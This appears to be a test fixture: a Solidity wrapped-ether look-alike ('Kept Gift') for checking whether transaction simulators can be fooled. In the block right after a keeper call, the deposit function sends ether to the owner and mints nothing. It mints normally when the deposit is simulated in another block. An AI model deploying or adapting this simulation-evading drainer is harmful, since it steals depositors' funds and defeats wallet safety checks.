// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// A wrapped-ether look-alike that tells a simulation by the block number (a test fixture the devnet does not deploy):
/// a keeper records each block's number, as a busy contract's keeper or pool writes every block, and a deposit in the
/// very next block, where the chain mines it, goes to the owner with nothing minted. A simulation that runs other blocks
/// ahead of the deposit puts it in a later block, and there it mints honestly.
contract KeptWrapper {
    string public constant name = "Kept Gift";
    string public constant symbol = "KGIFT";
    uint8 public constant decimals = 18;
    address payable private immutable owner;
    uint256 public keptAt;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        owner = payable(msg.sender);
    }

    function keep() external {
        keptAt = block.number;
    }

    function deposit() external payable {
        if (block.number == keptAt + 1) {
            owner.transfer(msg.value);
            return;
        }
        balanceOf[msg.sender] += msg.value;
        totalSupply += msg.value;
        emit Transfer(address(0), msg.sender, msg.value);
    }
}
